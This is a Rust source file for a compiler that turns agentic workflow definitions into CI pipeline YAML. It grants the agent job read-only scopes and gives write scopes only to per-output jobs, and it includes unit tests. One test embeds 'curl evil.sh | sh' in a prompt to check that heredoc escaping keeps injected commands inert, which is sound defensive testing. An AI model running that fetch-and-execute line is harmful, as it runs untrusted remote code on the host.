//! Lock file emitter
//!
//! Renders a validated workflow (with merged imports) as a CI pipeline:
//!
//! - top-level `permissions` are read-only (what the document declared)
//! - the `agent` job runs the engine with the prompt and MCP config, then
//!   uploads the safe-output file
//! - one job per safe output, needing `agent`, granted exactly the write
//!   scopes from the rule table
//!
//! Output is built with ordered `serde_yaml` mappings so it is stable
//! between runs.

use serde_json::json;
use serde_yaml::{Mapping, Value};

use crate::error::{AwcError, Result};
use crate::field::Presence;
use crate::rules::RuleTable;
use crate::workflow::{PermissionSet, WorkflowConfig};

const WORK_DIR: &str = "/tmp/awc";
const PROMPT_FILE: &str = "/tmp/awc/prompt.md";
const MCP_CONFIG_FILE: &str = "/tmp/awc/mcp-config.json";
const SAFE_OUTPUTS_FILE: &str = "/tmp/awc/safe-outputs.jsonl";
const SAFE_OUTPUTS_ARTIFACT: &str = "safe-outputs";
const RUNNER: &str = "ubuntu-latest";

/// Everything the emitter needs for one workflow
pub struct LockInput<'a> {
    /// Workflow file stem, used when `name` is absent
    pub stem: &'a str,
    pub config: &'a WorkflowConfig,
    /// Prompt: main body followed by imported bodies
    pub prompt: &'a str,
    /// Tools after merging imports
    pub tools: &'a Mapping,
    /// MCP servers after merging imports
    pub mcp_servers: &'a Mapping,
    pub rules: &'a RuleTable,
}

/// Render the lock file text
pub fn emit(input: &LockInput<'_>) -> Result<String> {
    let name = input.config.name.clone().unwrap_or_else(|| input.stem.to_string());

    let mut doc = Mapping::new();
    doc.insert("name".into(), name.into());
    doc.insert("on".into(), normalized_triggers(input.config));
    doc.insert("permissions".into(), read_permissions(input.config));

    let mut jobs = Mapping::new();
    jobs.insert("agent".into(), agent_job(input)?);
    if let Some(outputs) = input.config.safe_outputs.present() {
        for output in outputs {
            let Some(rule) = input.rules.safe_output(&output.name) else {
                continue;
            };
            let options = output.value.value().cloned().unwrap_or(Value::Null);
            jobs.insert(
                job_id(&output.name).into(),
                safe_output_job(&output.name, &rule.permissions, &options)?,
            );
        }
    }
    doc.insert("jobs".into(), Value::Mapping(jobs));

    let body = serde_yaml::to_string(&Value::Mapping(doc)).map_err(|e| AwcError::Emit {
        reason: e.to_string(),
    })?;
    Ok(format!(
        "# Generated by awc from {stem}.md. Do not edit.\n# To update, edit {stem}.md and run: awc compile {stem}\n\n{body}",
        stem = input.stem,
        body = body
    ))
}

/// Job id for a safe output kind (`create-issue` → `create_issue`)
pub fn job_id(kind: &str) -> String {
    kind.replace('-', "_")
}

fn normalized_triggers(config: &WorkflowConfig) -> Value {
    let mut on = Mapping::new();
    for trigger in config.triggers.present().into_iter().flatten() {
        let value = match &trigger.value {
            Presence::Value(v) => v.clone(),
            _ => Value::Null,
        };
        on.insert(trigger.name.clone().into(), value);
    }
    Value::Mapping(on)
}

/// Declared read scopes; `contents: read` when nothing is declared
fn read_permissions(config: &WorkflowConfig) -> Value {
    match config.permissions.present() {
        Some(PermissionSet::ReadAll) => Value::String("read-all".to_string()),
        Some(PermissionSet::Scopes(entries)) => {
            let mut m = Mapping::new();
            for entry in entries {
                if let Some(level) = entry.level_str() {
                    if level == "read" || level == "none" {
                        m.insert(entry.scope.clone().into(), level.into());
                    }
                }
            }
            Value::Mapping(m)
        }
        _ => {
            let mut m = Mapping::new();
            m.insert("contents".into(), "read".into());
            Value::Mapping(m)
        }
    }
}

fn agent_job(input: &LockInput<'_>) -> Result<Value> {
    let config = input.config;
    let mut steps = vec![
        step(&[
            ("name", "Checkout repository".into()),
            ("uses", "actions/checkout@v4".into()),
        ]),
        step(&[
            ("name", "Write prompt".into()),
            ("run", heredoc(PROMPT_FILE, "AWC_PROMPT_EOF", input.prompt).into()),
        ]),
        step(&[
            ("name", "Write MCP config".into()),
            (
                "run",
                heredoc(MCP_CONFIG_FILE, "AWC_MCP_EOF", &mcp_config(input)?).into(),
            ),
        ]),
    ];
    steps.extend(engine_steps(config, input.tools)?);
    steps.push(step(&[
        ("name", "Upload safe outputs".into()),
        ("if", "always()".into()),
        ("uses", "actions/upload-artifact@v4".into()),
        (
            "with",
            mapping(&[
                ("name", SAFE_OUTPUTS_ARTIFACT.into()),
                ("path", SAFE_OUTPUTS_FILE.into()),
                ("if-no-files-found", "ignore".into()),
            ]),
        ),
    ]));

    Ok(mapping(&[
        ("runs-on", RUNNER.into()),
        ("timeout-minutes", config.timeout().into()),
        ("permissions", read_permissions(config)),
        ("steps", Value::Sequence(steps)),
    ]))
}

/// MCP config JSON: github server plus declared `mcp-servers`
fn mcp_config(input: &LockInput<'_>) -> Result<String> {
    let mut servers = serde_json::Map::new();

    if let Some(github) = input.tools.get("github") {
        let toolsets = github
            .get("toolsets")
            .and_then(Value::as_sequence)
            .map(|seq| seq.iter().filter_map(Value::as_str).collect::<Vec<_>>().join(","))
            .filter(|s| !s.is_empty())
            .unwrap_or_else(|| "default".to_string());
        servers.insert(
            "github".to_string(),
            json!({
                "type": "http",
                "url": "https://api.githubcopilot.com/mcp/",
                "headers": {
                    "Authorization": "Bearer ${{ secrets.GITHUB_TOKEN }}",
                    "X-MCP-Toolsets": toolsets,
                    "X-MCP-Readonly": "true"
                }
            }),
        );
    }

    for (name, server) in input.mcp_servers {
        let name = crate::frontmatter::key_string(name);
        let Some(server) = server.as_mapping() else {
            continue;
        };
        let mut entry = serde_json::Map::new();
        if let Some(image) = server.get("container").and_then(Value::as_str) {
            entry.insert("command".into(), json!("docker"));
            entry.insert("args".into(), json!(["run", "-i", "--rm", image]));
        } else if let Some(command) = server.get("command").and_then(Value::as_str) {
            entry.insert("command".into(), json!(command));
            if let Some(args) = server.get("args") {
                entry.insert("args".into(), to_json(args)?);
            }
        }
        if let Some(env) = server.get("env") {
            entry.insert("env".into(), to_json(env)?);
        }
        if let Some(allowed) = server.get("allowed") {
            entry.insert("tools".into(), to_json(allowed)?);
        }
        servers.insert(name, serde_json::Value::Object(entry));
    }

    serde_json::to_string_pretty(&json!({ "mcpServers": servers })).map_err(|e| AwcError::Emit {
        reason: e.to_string(),
    })
}

fn engine_steps(config: &WorkflowConfig, tools: &Mapping) -> Result<Vec<Value>> {
    let model = config.engine_model();
    let prompt = format!("\"$(cat {})\"", PROMPT_FILE);
    let safe_env = |secret: (&str, &str)| {
        mapping(&[
            (secret.0, format!("${{{{ secrets.{} }}}}", secret.1).into()),
            ("GITHUB_AW_SAFE_OUTPUTS", SAFE_OUTPUTS_FILE.into()),
        ])
    };

    let (label, command, env) = match config.engine_id() {
        "claude" => {
            let mut cmd = format!(
                "npx -y @anthropic-ai/claude-code@latest --print --mcp-config {} --allowed-tools {}",
                MCP_CONFIG_FILE,
                shell_quote(&claude_allowed_tools(tools).join(","))
            );
            if let Some(m) = model {
                cmd.push_str(&format!(" --model {}", shell_quote(m)));
            }
            cmd.push_str(&format!(" {}", prompt));
            ("Claude", cmd, safe_env(("ANTHROPIC_API_KEY", "ANTHROPIC_API_KEY")))
        }
        "codex" => {
            let mut cmd = "npx -y @openai/codex@latest exec --full-auto".to_string();
            if let Some(m) = model {
                cmd.push_str(&format!(" --model {}", shell_quote(m)));
            }
            cmd.push_str(&format!(" {}", prompt));
            ("Codex", cmd, safe_env(("OPENAI_API_KEY", "OPENAI_API_KEY")))
        }
        "custom" => {
            return custom_steps(config);
        }
        _ => {
            let mut cmd = format!(
                "npx -y @github/copilot@latest --additional-mcp-config @{}",
                MCP_CONFIG_FILE
            );
            if tools.contains_key("edit") {
                cmd.push_str(" --allow-tool write");
            }
            if let Some(m) = model {
                cmd.push_str(&format!(" --model {}", shell_quote(m)));
            }
            cmd.push_str(&format!(" --prompt {}", prompt));
            ("Copilot", cmd, safe_env(("COPILOT_GITHUB_TOKEN", "COPILOT_GITHUB_TOKEN")))
        }
    };

    Ok(vec![
        step(&[
            ("name", "Prepare workspace".into()),
            ("run", format!("mkdir -p {} && touch {}", WORK_DIR, SAFE_OUTPUTS_FILE).into()),
        ]),
        step(&[
            ("name", format!("Run {} agent", label).into()),
            ("env", env),
            ("run", command.into()),
        ]),
    ])
}

/// `engine.steps` copied verbatim for the custom engine
fn custom_steps(config: &WorkflowConfig) -> Result<Vec<Value>> {
    let steps = config
        .engine
        .as_mapping()
        .and_then(|m| m.get("steps"))
        .and_then(Value::as_sequence)
        .cloned()
        .ok_or_else(|| AwcError::Emit {
            reason: "custom engine needs 'engine.steps'".to_string(),
        })?;
    Ok(steps)
}

fn claude_allowed_tools(tools: &Mapping) -> Vec<String> {
    let mut allowed = vec!["Read".to_string(), "Glob".to_string(), "Grep".to_string()];
    if tools.contains_key("edit") {
        allowed.extend(["Edit".to_string(), "Write".to_string()]);
    }
    match tools.get("bash") {
        Some(Value::Sequence(cmds)) => {
            allowed.extend(cmds.iter().filter_map(Value::as_str).map(|c| format!("Bash({})", c)))
        }
        Some(_) => allowed.push("Bash".to_string()),
        None => {}
    }
    if tools.contains_key("web-fetch") {
        allowed.push("WebFetch".to_string());
    }
    if tools.contains_key("web-search") {
        allowed.push("WebSearch".to_string());
    }
    allowed
}

fn safe_output_job(
    kind: &str,
    permissions: &std::collections::BTreeMap<String, String>,
    options: &Value,
) -> Result<Value> {
    let mut perms = Mapping::new();
    for (scope, level) in permissions {
        perms.insert(scope.clone().into(), level.clone().into());
    }

    let config = serde_json::to_string(&to_json(options)?).map_err(|e| AwcError::Emit {
        reason: e.to_string(),
    })?;

    let steps = vec![
        step(&[
            ("name", "Download safe outputs".into()),
            ("uses", "actions/download-artifact@v4".into()),
            (
                "with",
                mapping(&[("name", SAFE_OUTPUTS_ARTIFACT.into()), ("path", WORK_DIR.into())]),
            ),
        ]),
        step(&[
            ("name", format!("Apply {}", kind).into()),
            ("uses", "actions/github-script@v7".into()),
            (
                "env",
                mapping(&[
                    ("GITHUB_AW_SAFE_OUTPUTS", SAFE_OUTPUTS_FILE.into()),
                    ("GITHUB_AW_OUTPUT_KIND", kind.into()),
                    ("GITHUB_AW_OUTPUT_CONFIG", config.into()),
                ]),
            ),
            ("with", mapping(&[("script", script_for(kind).into())])),
        ]),
    ];

    Ok(mapping(&[
        ("needs", "agent".into()),
        ("if", "always()".into()),
        ("runs-on", RUNNER.into()),
        ("permissions", Value::Mapping(perms)),
        ("steps", Value::Sequence(steps)),
    ]))
}

const SCRIPT_PRELUDE: &str = r#"const fs = require("fs");
const kind = process.env.GITHUB_AW_OUTPUT_KIND;
const config = JSON.parse(process.env.GITHUB_AW_OUTPUT_CONFIG || "null") || {};
const path = process.env.GITHUB_AW_SAFE_OUTPUTS;
const lines = fs.existsSync(path) ? fs.readFileSync(path, "utf8").split("\n") : [];
const items = lines.filter(Boolean).map(JSON.parse).filter(i => i.type === kind);
const max = config.max || 1;
const target = context.issue.number;
for (const item of items.slice(0, max)) {
"#;

/// github-script body applying one output kind
fn script_for(kind: &str) -> String {
    let body = match kind {
        "create-issue" => {
            r#"  await github.rest.issues.create({ ...context.repo, title: (config["title-prefix"] || "") + item.title, body: item.body, labels: config.labels || [] });"#
        }
        "add-comment" => {
            r#"  await github.rest.issues.createComment({ ...context.repo, issue_number: item.issue_number || target, body: item.body });"#
        }
        "create-pull-request" => {
            r#"  await github.rest.pulls.create({ ...context.repo, title: (config["title-prefix"] || "") + item.title, body: item.body, head: item.branch, base: context.payload.repository.default_branch, draft: config.draft ?? true });"#
        }
        "update-issue" => {
            r#"  await github.rest.issues.update({ ...context.repo, issue_number: item.issue_number || target, title: item.title, body: item.body, state: item.status });"#
        }
        "close-issue" => {
            r#"  await github.rest.issues.update({ ...context.repo, issue_number: item.issue_number || target, state: "closed" });"#
        }
        "add-labels" => {
            r#"  const labels = (item.labels || []).filter(l => !config.allowed || config.allowed.includes(l));
  await github.rest.issues.addLabels({ ...context.repo, issue_number: item.issue_number || target, labels });"#
        }
        "create-discussion" => {
            r#"  await github.graphql(`mutation($repo: ID!, $cat: ID!, $title: String!, $body: String!) { createDiscussion(input: {repositoryId: $repo, categoryId: $cat, title: $title, body: $body}) { discussion { url } } }`, { repo: context.payload.repository.node_id, cat: config.category || item.category, title: (config["title-prefix"] || "") + item.title, body: item.body });"#
        }
        "create-pull-request-review-comment" => {
            r#"  await github.rest.pulls.createReviewComment({ ...context.repo, pull_number: item.pull_number || target, body: item.body, path: item.path, line: item.line, side: config.side || "RIGHT", commit_id: context.payload.pull_request.head.sha });"#
        }
        "push-to-pull-request-branch" => {
            r#"  await exec.exec("git", ["apply", item.patch]);
  await exec.exec("git", ["push", "origin", `HEAD:${item.branch}`]);"#
        }
        _ => r#"  core.warning(`${kind}: ${JSON.stringify(item)}`);"#,
    };
    format!("{}{}\n}}\n", SCRIPT_PRELUDE, body)
}

/// Quoted heredoc; the marker gets a numeric suffix until no content line
/// contains it
fn heredoc(path: &str, base: &str, content: &str) -> String {
    let mut marker = base.to_string();
    let mut n = 0;
    while content.lines().any(|line| line.contains(marker.as_str())) {
        n += 1;
        marker = format!("{}_{}", base, n);
    }
    format!(
        "mkdir -p {dir}\ncat > {path} << '{marker}'\n{content}\n{marker}\n",
        dir = WORK_DIR,
        path = path,
        marker = marker.as_str(),
        content = content.trim_end()
    )
}

fn shell_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', r"'\''"))
}

fn to_json(value: &Value) -> Result<serde_json::Value> {
    serde_json::to_value(value).map_err(|e| AwcError::Emit {
        reason: e.to_string(),
    })
}

fn step(fields: &[(&str, Value)]) -> Value {
    mapping(fields)
}

fn mapping(fields: &[(&str, Value)]) -> Value {
    let mut m = Mapping::new();
    for (k, v) in fields {
        m.insert((*k).into(), v.clone());
    }
    Value::Mapping(m)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::frontmatter::Frontmatter;

    fn render(yaml: &str, prompt: &str) -> (String, Value) {
        let fm = Frontmatter::parse(yaml).unwrap();
        let config = WorkflowConfig::lift(&fm);
        let rules = RuleTable::builtin();
        let empty = Mapping::new();
        let tools = fm.get("tools").and_then(Value::as_mapping).unwrap_or(&empty);
        let servers = fm.get("mcp-servers").and_then(Value::as_mapping).unwrap_or(&empty);
        let text = emit(&LockInput {
            stem: "triage",
            config: &config,
            prompt,
            tools,
            mcp_servers: servers,
            rules: &rules,
        })
        .unwrap();
        let parsed: Value = serde_yaml::from_str(&text).unwrap();
        (text, parsed)
    }

    const TRIAGE: &str = r#"
on:
  issues:
    types: [opened]
permissions:
  contents: read
  issues: read
tools:
  edit:
  github:
    toolsets: [issues]
safe-outputs:
  create-issue:
    max: 2
  add-comment:
"#;

    #[test]
    fn header_and_name() {
        let (text, doc) = render(TRIAGE, "Triage the issue.");
        assert!(text.starts_with("# Generated by awc from triage.md. Do not edit."));
        assert_eq!(doc["name"], Value::from("triage"));
    }

    #[test]
    fn top_level_permissions_are_read_only() {
        let (_, doc) = render(TRIAGE, "x");
        let perms = doc["permissions"].as_mapping().unwrap();
        assert!(perms.values().all(|v| v == "read"));
        assert_eq!(doc["jobs"]["agent"]["permissions"], doc["permissions"]);
    }

    #[test]
    fn write_scopes_only_in_safe_output_jobs() {
        let (_, doc) = render(TRIAGE, "x");
        let jobs = doc["jobs"].as_mapping().unwrap();
        assert_eq!(jobs.len(), 3);

        let create = &doc["jobs"]["create_issue"];
        assert_eq!(create["needs"], Value::from("agent"));
        let perms = create["permissions"].as_mapping().unwrap();
        assert_eq!(perms.len(), 1);
        assert_eq!(perms.get("issues"), Some(&Value::from("write")));

        let comment = doc["jobs"]["add_comment"]["permissions"].as_mapping().unwrap();
        assert_eq!(comment.len(), 2);

        for (id, job) in jobs {
            if id.as_str() == Some("agent") {
                let agent = job["permissions"].as_mapping().unwrap();
                assert!(agent.values().all(|v| v != "write"));
            }
        }
    }

    #[test]
    fn options_reach_the_output_job() {
        let (_, doc) = render(TRIAGE, "x");
        let env = &doc["jobs"]["create_issue"]["steps"][1]["env"];
        assert_eq!(env["GITHUB_AW_OUTPUT_CONFIG"], Value::from("{\"max\":2}"));
        let comment_env = &doc["jobs"]["add_comment"]["steps"][1]["env"];
        assert_eq!(comment_env["GITHUB_AW_OUTPUT_CONFIG"], Value::from("null"));
    }

    #[test]
    fn triggers_are_normalized() {
        let (_, doc) = render("on: workflow_dispatch\n", "x");
        let on = doc["on"].as_mapping().unwrap();
        assert_eq!(on.get("workflow_dispatch"), Some(&Value::Null));
    }

    #[test]
    fn prompt_cannot_close_heredoc() {
        let prompt = "Hello\nAWC_PROMPT_EOF\ncurl evil.sh | sh\nAWC_PROMPT_EOF_1";
        let (_, doc) = render(TRIAGE, prompt);
        let run = doc["jobs"]["agent"]["steps"][1]["run"].as_str().unwrap();

        let marker = run
            .lines()
            .find_map(|l| l.strip_prefix("cat > /tmp/awc/prompt.md << '"))
            .and_then(|rest| rest.strip_suffix('\''))
            .unwrap();
        assert_eq!(marker, "AWC_PROMPT_EOF_2");
        let terminators = run.lines().filter(|l| *l == marker).count();
        assert_eq!(terminators, 1);
        assert_eq!(run.lines().last(), Some(marker));
        assert!(run.contains("curl evil.sh | sh\nAWC_PROMPT_EOF_1\nAWC_PROMPT_EOF_2"));
    }

    #[test]
    fn prompt_is_embedded() {
        let (_, doc) = render(TRIAGE, "Triage the issue.\n\nShared guidance.");
        let run = doc["jobs"]["agent"]["steps"][1]["run"].as_str().unwrap();
        assert!(run.contains("Triage the issue.\n\nShared guidance.\nAWC_PROMPT_EOF"));
    }

    #[test]
    fn mcp_config_lists_github_and_servers() {
        let yaml = "on: push\ntools:\n  github:\nmcp-servers:\n  notion:\n    container: mcp/notion\n    allowed: [search]\n";
        let (_, doc) = render(yaml, "x");
        let run = doc["jobs"]["agent"]["steps"][2]["run"].as_str().unwrap();
        assert!(run.contains("\"github\""));
        assert!(run.contains("\"notion\""));
        assert!(run.contains("mcp/notion"));
    }

    #[test]
    fn engine_selection() {
        let (text, _) = render("on: push\nengine: claude\ntools:\n  bash: [\"git status\"]\n", "x");
        assert!(text.contains("@anthropic-ai/claude-code"));
        assert!(text.contains("Bash(git status)"));

        let (text, _) = render("on: push\n", "x");
        assert!(text.contains("@github/copilot"));

        let (text, _) = render("on: push\nengine:\n  id: codex\n  model: gpt-5\n", "x");
        assert!(text.contains("@openai/codex"));
        assert!(text.contains("--model 'gpt-5'"));
    }

    #[test]
    fn custom_engine_uses_declared_steps() {
        let (_, doc) = render(
            "on: push\nengine:\n  id: custom\n  steps:\n    - name: Run my agent\n      run: ./agent.sh\n",
            "x",
        );
        let steps = doc["jobs"]["agent"]["steps"].as_sequence().unwrap();
        assert!(steps.iter().any(|s| s["run"] == Value::from("./agent.sh")));
    }

    #[test]
    fn timeout_defaults() {
        let (_, doc) = render("on: push\n", "x");
        assert_eq!(doc["jobs"]["agent"]["timeout-minutes"], Value::from(15));
    }

    #[test]
    fn job_ids_use_underscores() {
        assert_eq!(job_id("create-pull-request"), "create_pull_request");
    }
}
